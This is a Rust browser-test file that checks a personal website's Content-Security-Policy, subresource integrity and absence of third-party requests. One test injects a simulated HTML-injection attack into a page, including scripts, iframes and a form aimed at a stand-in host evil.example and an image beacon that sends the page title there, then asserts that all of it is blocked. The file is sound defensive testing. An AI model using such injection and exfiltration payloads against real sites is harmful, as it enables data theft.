//! The pages' Content-Security-Policy holds, and forbids nothing that they do.

use fantoccini::Locator;
use fantoccini::key::Key;
use personal_page::view::Action;

use crate::console;
use crate::visit::{Visit, at_both};

/// Records violations of the policy and requests to other hosts, in the tab, across pages.
const WATCH: &str = "addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    sessionStorage.forbidden = `${sessionStorage.forbidden ?? ''}${effectiveDirective} ${blockedURI}\\n`)";
const FORBIDDEN: &str = "sessionStorage.forbidden ?? ''";
const ELSEWHERE: &str = "performance.getEntriesByType('resource').map(({ name }) => name)
    .filter((name) => !name.startsWith(location.origin + '/')).join('\\n')";
const STYLED: &str = "document.querySelectorAll('[style]').length";

impl Visit {
    /// Asserts that the current page violated nothing, and sent no request to another host.
    async fn is_law_abiding(&self, page: &str) {
        self.still().await;
        assert_eq!(self.get(FORBIDDEN).await, "", "{page} did nothing forbidden");
        assert_eq!(self.get(ELSEWHERE).await, "", "{page} asked no other host");
        assert_eq!(self.get(STYLED).await, 0, "{page} has no style attribute");
    }
}

#[tokio::test]
async fn no_page_does_what_its_policy_forbids() {
    at_both(async |visit: Visit| {
        visit.runs_first(WATCH);
        let pages = visit.host.pages();
        for page in pages.iter().map(String::as_str).chain(["no/such/page/"]) {
            visit.open(page).await;
            assert!(visit.has("meta[http-equiv=content-security-policy]").await, "{page} has a policy");
            visit.is_law_abiding(page).await;
        }
        let errors = console::errors(&visit.client).await;
        let errors: Vec<_> = errors.iter().filter(|error| !error.contains("no/such/page")).collect();
        assert!(errors.is_empty(), "{errors:#?}");
        visit.open("about/").await;
        visit.mark().await;
        for page in &pages {
            visit.adds_link("Next", &format!("{}{page}", visit.host.base)).await;
            visit.click("Next").await;
            visit.stands_at(page).await;
            visit.is_law_abiding(page).await;
        }
        visit.same_document().await;
        assert_eq!(console::errors(&visit.client).await, Vec::<String>::new());
    })
    .await;
}

#[tokio::test]
async fn nothing_a_reader_does_is_forbidden() {
    at_both(async |visit: Visit| {
        visit.runs_first(WATCH);
        visit.open("").await;
        visit.mark().await;
        visit.acts(Action::NextTheme).await;
        visit.acts(Action::Settings).await;
        visit.press("input[name=face][value=sans]").await;
        visit.press("input[name=size][value=larger]").await;
        visit.acts(Action::ResetSettings).await;
        visit.acts(Action::Settings).await;
        visit.is_law_abiding("the panel").await;

        visit.acts(Action::Search).await;
        let words = visit.client.active_element().await.expect("the focus");
        words.send_keys("embers").await.expect("keys");
        visit.is("document.querySelectorAll('.search li').length > 0", true).await;
        visit.is_law_abiding("the search").await;
        words.send_keys(&Key::Escape.to_string()).await.expect("a key");

        visit.follow("The whole pantry").await;
        visit.press(".zoom").await;
        visit.is("document.querySelector('.lightbox').open", true).await;
        visit.press(&format!(".lightbox {}", Action::NextPicture.selector())).await;
        visit.is_law_abiding("the light box").await;
        visit.press(&format!(".lightbox {}", Action::Close.selector())).await;
        for selector in [".copy", ".text h2 .anchor"] {
            let button = visit.client.find(Locator::Css(selector)).await.expect("something to copy");
            button.send_keys(&Key::Enter.to_string()).await.expect("a key");
        }
        visit.is("document.getElementById('announcer').textContent !== ''", true).await;
        let down = "scrollTo(0, document.documentElement.scrollHeight / 2)";
        visit.client.execute(down, vec![]).await.expect("a page to scroll");
        visit.is("localStorage.length > 0", true).await;
        visit.is("document.querySelector('.contents [aria-current]') !== null", true).await;
        visit.is_law_abiding("the contents").await;

        visit.open("").await;
        visit.is("document.querySelector('.unread') !== null", true).await;
        visit.follow("The whole pantry").await;
        visit.press(".resume").await;
        visit.is_law_abiding("the way back into a text").await;
        visit.open("").await;
        assert_eq!(console::errors(&visit.client).await, Vec::<String>::new());
    })
    .await;
}

/// Requests the program's script with the integrity hash in the page. The preload of the program itself has none,
/// because browsers do not check it there, and Chromium warns about it in the console.
const PARTS: &str = "
    const done = arguments[0];
    const parts = [...document.querySelectorAll('link[rel=modulepreload][integrity]')];
    const asked = parts.map(({ href, integrity }) => fetch(href, { integrity }).then(({ ok }) => ok));
    Promise.all(asked).then((all) => done(all.join(' ')), (error) => done(String(error)));
";

#[tokio::test]
async fn every_page_names_its_program_by_its_hash() {
    at_both(async |visit: Visit| {
        for page in visit.host.pages().iter().map(String::as_str).chain(["no/such/page/"]) {
            visit.open(page).await;
            let parts = visit.client.execute_async(PARTS, vec![]).await.expect("a page to ask");
            assert_eq!(parts, "true", "{page}");
        }
    })
    .await;
}

/// What an attacker would try who could inject HTML into a page.
const ATTACK: &str = "
    const put = (name, attributes, text = '') => {
        const element = document.createElement(name);
        Object.entries(attributes).forEach(([name, value]) => element.setAttribute(name, value));
        element.textContent = text;
        document.querySelector('main').append(element);
    };
    window.hits = 0;
    put('script', {}, 'hits++');
    put('script', { src: 'https://evil.example/a.js' });
    put('img', { src: 'https://evil.example/a.png' });
    put('img', { src: 'data:,', onerror: 'hits++' });
    put('style', {}, 'main { color: rgb(1, 2, 3) }');
    put('p', { style: 'color: rgb(1, 2, 3)' });
    put('iframe', { src: 'https://evil.example/' });
    put('object', { data: 'https://evil.example/' });
    put('base', { href: 'https://evil.example/' });
    put('form', { action: 'https://evil.example/', id: 'form' });
    // Firefox throws what it forbids.
    try { document.getElementById('form').submit() } catch {}
    fetch('https://evil.example/').catch(() => 0);
    new Image().src = 'https://evil.example/?' + document.title;
";

#[tokio::test]
async fn injected_code_can_neither_run_nor_send_anything() {
    at_both(async |visit: Visit| {
        visit.runs_first(WATCH);
        visit.open("about/").await;
        visit.client.execute(ATTACK, vec![]).await.expect("a page to attack");
        for directive in [
            "script-src-elem inline",
            "script-src-elem https://evil.example/a.js",
            "script-src-attr inline",
            "img-src https://evil.example/a.png",
            "style-src-elem inline",
            "style-src-attr inline",
            "frame-src https://evil.example",
            "object-src",
            "base-uri",
            "form-action",
            "connect-src https://evil.example/",
        ] {
            visit.is(&format!("({FORBIDDEN}).includes('{directive}') || sessionStorage.forbidden"), true).await;
        }
        visit.is("hits", 0).await;
        visit.is("getComputedStyle(document.querySelector('main p')).color !== 'rgb(1, 2, 3)'", true).await;
        visit.client.execute("sessionStorage.clear()", vec![]).await.expect("a page");
        console::errors(&visit.client).await;
    })
    .await;
}
